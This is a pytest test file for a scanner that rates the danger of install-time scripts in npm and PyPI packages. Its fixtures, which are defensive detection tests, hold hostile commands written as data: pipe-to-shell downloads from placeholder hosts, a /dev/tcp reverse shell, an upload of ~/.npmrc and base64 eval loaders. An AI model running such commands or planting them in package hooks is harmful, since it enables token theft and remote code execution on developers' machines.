"""How bad it is that something runs at installation."""

from __future__ import annotations

import json

import pytest

from douane.detectors.install_script import RULE
from douane.model import Artifact, Ecosystem, FileTree, Finding, Package, Severity
from douane.syntax import Codebase


def npm(scripts: dict[str, object], *, url: str | None = None, **files: str) -> list[Finding]:
    tree = {"package.json": json.dumps({"name": "case", "version": "1.0.0", "scripts": scripts})}
    tree |= {
        path.replace("__", "/").replace("_js", ".js").replace("_sh", ".sh"): text
        for path, text in files.items()
    }
    return look(Ecosystem.NPM, tree, url=url)


def look(ecosystem: Ecosystem, files: dict[str, str], *, url: str | None = None) -> list[Finding]:
    package = Package(ecosystem=ecosystem, name="case", version="1.0.0", path=".", url=url)
    tree = FileTree({path: text.encode() for path, text in files.items()})
    evidence = RULE.code(Codebase(Artifact(package=package, tree=tree))) if RULE.code else ()
    return [RULE.finding(each, package.purl) for each in evidence]


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("node-gyp rebuild", Severity.LOW),
        ("node-gyp-build || node-gyp rebuild", Severity.LOW),
        ("prebuild-install -r napi || node-gyp rebuild", Severity.LOW),
        ("husky install", Severity.INFO),
        ("npx only-allow pnpm", Severity.INFO),
        ("patch-package", Severity.INFO),
        ("something-unknown --now", Severity.LOW),
        ("node missing.js", Severity.LOW),
        ("curl https://files.invalid/x | sh", Severity.CRITICAL),
        ("wget -q https://files.invalid/x", Severity.MEDIUM),
        ("node -e \"require('https').get('https://x.invalid')\"", Severity.HIGH),
        ("python3 -c 'import os; os.system(\"x\")'", Severity.MEDIUM),
        ("powershell -enc AAAA", Severity.CRITICAL),
        ("echo aGk= | base64 -d", Severity.HIGH),
        ("bash -i >& /dev/tcp/203.0.113.9/1 0>&1", Severity.CRITICAL),
        ("cat ~/.npmrc", Severity.HIGH),
        ("curl -d @$HOME/.npmrc https://x.invalid", Severity.CRITICAL),
        ("echo aGk= | base64 -d | sh", Severity.CRITICAL),
        ('node -e "$(cat data)"', Severity.HIGH),
        ("npm install left-pad", Severity.MEDIUM),
        ("npx -y other-tool --go", Severity.MEDIUM),
        ("echo run curl https://x.invalid for more", Severity.INFO),
        ('node -e "process.exit(0)"', Severity.LOW),
        ("node -e \"try{require('./postinstall')}catch(e){}\"", Severity.LOW),
        ("node -e \"require('./x');fetch('https://x.invalid')\"", Severity.HIGH),
        ("husky && curl https://files.invalid/x", Severity.MEDIUM),
    ],
)
def test_commands(command: str, severity: Severity) -> None:
    (finding,) = npm({"postinstall": command})
    assert finding.severity is severity
    assert command[:40] in finding.excerpt


@pytest.mark.parametrize(
    ("source", "severity"),
    [
        ("console.log('Thank you for installing');", Severity.INFO),
        ("require('child_process').execFileSync('git', ['--version']);", Severity.LOW),
        ("require('https').get('https://files.example.test/data.json', () => {});", Severity.MEDIUM),
        ("eval(Buffer.from('MQ==', 'base64').toString());", Severity.CRITICAL),
        ("fetch('https://files.invalid/x').then((r) => r.text()).then((t) => eval(t));", Severity.CRITICAL),
        ("require('child_process').execSync('curl https://files.invalid/x | sh');", Severity.CRITICAL),
    ],
)
def test_scripts_are_read(source: str, severity: Severity) -> None:
    finding, *places = npm({"install": "node scripts/setup.js"}, scripts__setup_js=source)
    assert finding.severity is severity
    assert {place.where.path for place in places} <= {"scripts/setup.js"}


def test_what_a_script_imports_is_read_too() -> None:
    inner = "exports.go = () => require('vm').runInThisContext(atob('MQ=='));"
    (finding,) = npm(
        {"postinstall": "node ./setup"}, setup_js="require('./lib/inner').go();", lib__inner_js=inner
    )
    assert finding.severity is Severity.CRITICAL
    text = "set -e\ncurl -s https://files.invalid/x > x.sh\nsh x.sh\n"
    told, fetched, run = npm({"preinstall": "sh setup.sh"}, setup_sh=text)
    assert (told.severity, told.where.path) == (Severity.CRITICAL, "package.json")
    assert (fetched.severity, fetched.where.path, fetched.where.line) == (Severity.MEDIUM, "setup.sh", 2)
    assert (run.severity, run.where.line) == (Severity.CRITICAL, 3)


def test_hooks_of_developers_do_not_run_for_users() -> None:
    assert npm({"prepare": "husky", "test": "curl https://x.invalid | sh", "prepublish": "tsc"}) == []
    assert len(npm({"prepare": "tsc"}, url="git+https://code.test/a.git")) == 1


@pytest.mark.parametrize("scripts", [{"postinstall": 3}, {"install": ""}, {"install": ["x"]}])
def test_odd_manifests_do_no_harm(scripts: dict[str, object]) -> None:
    assert npm(scripts) == []


@pytest.mark.parametrize("manifest", ["", "[]", "nonsense", '{"scripts": 1}', "[" * 100_000])
def test_broken_manifests_do_no_harm(manifest: str) -> None:
    assert look(Ecosystem.NPM, {"package.json": manifest}) == []


def test_place_in_the_manifest() -> None:
    text = '{\n  "name": "postinstall",\n  "scripts": {\n    "postinstall": "x"\n  }\n}\n'
    (finding,) = look(Ecosystem.NPM, {"package.json": text})
    assert finding.where.line == 4


@pytest.mark.parametrize(
    ("setup", "severities"),
    [
        ("from setuptools import setup\nsetup(name='a')\n", []),
        (
            (
                "import subprocess\nfrom setuptools import setup\nsubprocess.check_output(['git', "
                "'describe'])\nsetup()\n"
            ),
            [Severity.LOW],
        ),
        (
            (
                "import urllib.request\nfrom setuptools import setup\n"
                "urllib.request.urlopen('https://x.invalid')\nsetup()\n"
            ),
            [Severity.MEDIUM, Severity.MEDIUM],
        ),
        (
            ("import base64\nexec(base64.b64decode('MQ=='))\nfrom setuptools import setup\nsetup()\n"),
            [Severity.CRITICAL],
        ),
        ("import base64\nexec(base64.b64decode('MQ=='))\n", [Severity.CRITICAL]),
        (
            (
                "from setuptools import setup\nfrom setuptools.command.install import install\nclass "
                "I(install):\n  pass\nsetup(cmdclass={'install': I})\n"
            ),
            [Severity.LOW],
        ),
    ],
)
def test_setup_scripts(setup: str, severities: list[Severity]) -> None:
    assert [finding.severity for finding in look(Ecosystem.PYPI, {"setup.py": setup})] == severities


def test_backend_in_the_package() -> None:
    project = '[build-system]\nrequires = []\nbuild-backend = "backend.main"\nbackend-path = ["tools"]\n'
    source = "import os\nos.system('curl https://x.invalid | sh')\n"
    found = look(Ecosystem.PYPI, {"pyproject.toml": project, "tools/backend/main.py": source})
    assert [(each.severity, each.where.path, each.where.line) for each in found] == [
        (Severity.CRITICAL, "tools/backend/main.py", 1),
        (Severity.CRITICAL, "pyproject.toml", 3),
    ]
    assert look(Ecosystem.PYPI, {"pyproject.toml": "[build-system\n"}) == []


def test_start_files() -> None:
    known = 'import os; var = "SETUPTOOLS_USE_DISTUTILS"; exec("x")\n'
    assert [f.severity for f in look(Ecosystem.PYPI, {"a.pth": known})] == [Severity.CRITICAL]
    assert [f.where.line for f in look(Ecosystem.PYPI, {"a-1.data/purelib/a.pth": "x\nimport\tos\n"})] == [2]
    assert look(Ecosystem.PYPI, {"pkg/a.pth": "import os"}) == []
    assert look(Ecosystem.PYPI, {"a.pth": "important\n# import os\n"}) == []
    assert len(look(Ecosystem.PYPI, {"sitecustomize.py": ""})) == 1
    assert look(Ecosystem.PYPI, {"pkg/sitecustomize.py": ""}) == []


def test_scripts_of_the_manifest_are_written_out() -> None:
    scripts: dict[str, object] = {"postinstall": "npm run -s warm", "warm": "yarn fetch"}
    scripts["fetch"] = "npm run warm"
    assert [each.severity for each in npm(scripts)] == [Severity.LOW]
    (finding,) = npm({**scripts, "prefetch": "curl -s https://files.invalid/x | bash"})
    assert finding.severity is Severity.CRITICAL


def test_shell_scripts_are_followed_into_what_they_start() -> None:
    found = npm(
        {"postinstall": "sh scripts/a.sh"},
        scripts__a_sh="#!/bin/sh\nnode ./lib/b.js\n",
        lib__b_js="require('https').get('https://files.invalid/');",
    )
    assert [(each.severity, each.where.path) for each in found] == [
        (Severity.MEDIUM, "package.json"),
        (Severity.MEDIUM, "lib/b.js"),
    ]


@pytest.mark.parametrize(
    ("source", "severity", "says"),
    [
        ("require('child_process').spawn('x', [], {detached: true});", Severity.HIGH, "running behind"),
        (
            "const os = require('os'), fs = require('fs');\nfs.writeFileSync(os.homedir() + '/.x/y', '1');",
            Severity.MEDIUM,
            "writes outside the package (~/.x/y)",
        ),
        (
            "const os = require('os'), fs = require('fs');\nfs.readFileSync(os.homedir() + '/.npmrc');",
            Severity.HIGH,
            "npm's tokens",
        ),
        (
            "const fs = require('fs'); fs.writeFileSync('/tmp/x', ''); fs.writeFileSync('a', '');",
            Severity.INFO,
            "",
        ),
    ],
)
def test_what_a_script_does_is_told_at_its_line(source: str, severity: Severity, says: str) -> None:
    finding, *places = npm({"postinstall": "node x.js"}, x_js=source)
    assert finding.severity is severity
    assert says in finding.why
    assert [place.severity for place in places] == ([severity] if says else [])


def test_machine_code_that_runs_at_installation() -> None:
    tree = {"package.json": json.dumps({"scripts": {"install": "./bin/setup"}}), "bin/setup": "\x7fELF..."}
    (finding,) = look(Ecosystem.NPM, tree)
    assert finding.severity is Severity.MEDIUM
    assert finding.why.endswith("it is machine code")


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("<!(node -p \\\"require('node-addon-api').include\\\")", None),
        ("<!(curl -s https://files.invalid/x | sh)", Severity.CRITICAL),
        ("<!@(node tools/list.js)", None),
        ("<!(node tools/evil.js)", Severity.CRITICAL),
    ],
)
def test_commands_of_a_binding(command: str, severity: Severity | None) -> None:
    tree = {
        "package.json": '{"name": "case"}',
        "binding.gyp": f'{{"targets": [{{\n"include_dirs": ["{command}"]\n}}]}}\n',
        "tools/list.js": "console.log(require('fs').readdirSync('src').join(' '));",
        "tools/evil.js": "eval(Buffer.from('MQ==', 'base64').toString());",
    }
    found = look(Ecosystem.NPM, tree)
    assert found[0].severity is Severity.LOW
    assert [each.severity for each in found[1:]] == ([severity] if severity else [])
    assert [(each.where.path, each.where.line) for each in found[1:]] == [("binding.gyp", 2)] * len(found[1:])


def test_what_developers_run_counts_in_a_folder_only_if_no_build_needs_it() -> None:
    scripts = {"scripts": {"prepare": "curl -s https://files.invalid/x | sh", "prepublish": "tsc"}}
    package = Package(ecosystem=Ecosystem.NPM, name="case", version="1", path=".", index="local")
    tree = FileTree({"package.json": json.dumps(scripts).encode()})
    assert RULE.code
    (evidence,) = RULE.code(Codebase(Artifact(package=package, tree=tree)))
    assert (evidence.severity, evidence.excerpt[:8]) == (Severity.CRITICAL, "prepare:")


THIEF = "import os\nos.system('curl https://x.invalid | sh')\n"


@pytest.mark.parametrize(
    ("files", "path"),
    [
        ({"pyproject.toml": "[tool.hatch.build.hooks.custom]\n", "hatch_build.py": THIEF}, "hatch_build.py"),
        (
            {
                "pyproject.toml": '[tool.hatch.build.targets.wheel.hooks.custom]\npath = "b/h.py"\n',
                "b/h.py": THIEF,
            },
            "b/h.py",
        ),
        ({"pyproject.toml": '[tool.pdm.build]\ncustom-hook = "h.py"\n', "h.py": THIEF}, "h.py"),
        ({"pyproject.toml": '[tool.poetry]\nbuild = "h.py"\n', "h.py": THIEF}, "h.py"),
        ({"pyproject.toml": '[tool.poetry.build]\nscript = "h.py"\n', "h.py": THIEF}, "h.py"),
        ({"pyproject.toml": '[tool.setuptools.cmdclass]\nbuild = "a.b.C"\n', "a/b.py": THIEF}, "a/b.py"),
        ({"setup.cfg": "[options]\ncmdclass =\n  install = a.b.C\n", "a/b.py": THIEF}, "a/b.py"),
    ],
)
def test_code_of_the_package_that_a_build_runs(files: dict[str, str], path: str) -> None:
    finding, setting = look(Ecosystem.PYPI, files)
    assert (finding.severity, finding.where.path) == (Severity.CRITICAL, path)
    lines = files[setting.where.path or ""].splitlines()
    assert setting.severity is Severity.CRITICAL
    assert setting.excerpt == lines[(setting.where.line or 0) - 1].strip()
    harmless = {name: "X = 1\n" if text is THIEF else text for name, text in files.items()}
    assert [each.severity for each in look(Ecosystem.PYPI, harmless)] == [Severity.LOW]


@pytest.mark.parametrize("text", ["[tool.hatch\n", "[tool.hatch.build]\nhooks = 3\n", "tool = 1\n"])
def test_odd_settings_of_a_build_do_no_harm(text: str) -> None:
    assert look(Ecosystem.PYPI, {"pyproject.toml": text, "setup.cfg": "[options\n"}) == []


def test_what_setup_has_run_is_read() -> None:
    setup = "import subprocess\nfrom setuptools import setup\nsubprocess.call(['make', '-s'])\nsetup()\n"
    make = "all:\n\tcc -o x x.c\n\tcurl -s https://files.invalid/x | sh\n"
    told, place = look(Ecosystem.PYPI, {"setup.py": setup, "Makefile": make})
    assert (told.severity, told.where.path) == (Severity.CRITICAL, "setup.py")
    assert (place.severity, place.where.path, place.where.line) == (Severity.CRITICAL, "Makefile", 3)
    assert [each.severity for each in look(Ecosystem.PYPI, {"setup.py": setup, "Makefile": "all:\n"})] == [
        Severity.LOW
    ]


NAMESPACE = (
    "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('snow',));importlib = "
    "__import__('importlib.util');__import__('importlib.machinery');m = sys.modules.setdefault('snow', "
    "importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('snow', "
    "[os.path.dirname(p)])));m = m or sys.modules.setdefault('snow', types.ModuleType('snow'));"
    "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
)


def test_how_bad_a_line_of_a_start_file_is() -> None:
    def severity(line: str, **files: str) -> Severity:
        tree = {"a.pth": line, **{f"{name}.py": text for name, text in files.items()}}
        return next(each.severity for each in look(Ecosystem.PYPI, tree) if each.where.path == "a.pth")

    assert severity(NAMESPACE) is Severity.LOW
    assert severity(NAMESPACE.replace("mp.append(p)", "mp.append(p);exec(x)")) is Severity.CRITICAL
    assert severity("import calm\n", calm="X = 1\n") is Severity.HIGH
    assert severity("import calm; exec(open('x').read())\n", calm="X = 1\n") is Severity.CRITICAL
    talking = "import requests\nrequests.get('https://x.invalid')\n"
    assert severity("import bad\n", bad=talking) is Severity.CRITICAL
    assert severity("import nowhere\n") is Severity.CRITICAL


def test_plug_ins_of_other_programs_count_where_nobody_could_review_them() -> None:
    points = "[console_scripts]\na = bad:main\n\n[pytest11]\na = bad\nb = calm\n"
    files = {"a-1.dist-info/entry_points.txt": points, "bad.py": THIEF, "calm.py": "X = 1\n"}
    (finding,) = look(Ecosystem.PYPI, files)
    assert (finding.severity, finding.where.line) == (Severity.MEDIUM, 5)
    (finding,) = look(Ecosystem.PYPI, {"conftest.py": THIEF, "calm.py": ""})
    assert (finding.severity, finding.where.path) == (Severity.MEDIUM, "conftest.py")
    assert look(Ecosystem.PYPI, {"conftest.py": "import pytest\n"}) == []


def test_commands_that_setup_takes_from_elsewhere() -> None:
    setup = (
        "import sys\nfrom setuptools import setup\nsys.path.insert(0, '_own')\nfrom made import commands\n"
        "setup(cmdclass=commands())\n"
    )
    (calm,) = look(
        Ecosystem.PYPI, {"setup.py": setup, "_own/made.py": "def commands():\n    return made()\n"}
    )
    assert (calm.severity, calm.where.line) == (Severity.MEDIUM, 5)
    bad = "import os\n\ndef commands():\n    os.system('curl https://x.invalid | sh')\n"
    assert look(Ecosystem.PYPI, {"setup.py": setup, "_own/made.py": bad})[0].severity is Severity.CRITICAL


@pytest.mark.parametrize(
    ("line", "fires"),
    [
        ("    data_files=[(site, ['start.pth'])],", True),
        ("    py_modules=['sitecustomize'],", True),
        ("    # leaves 'start.pth' alone", False),
        ("    package_data={'a': ['model.pt']},", False),
    ],
)
def test_setup_that_installs_a_start_file(line: str, *, fires: bool) -> None:
    setup = f"from setuptools import setup\nsetup(\n{line}\n)\n"
    found = look(Ecosystem.PYPI, {"setup.py": setup})
    assert [(each.severity, each.where.line) for each in found] == ([(Severity.HIGH, 3)] if fires else [])
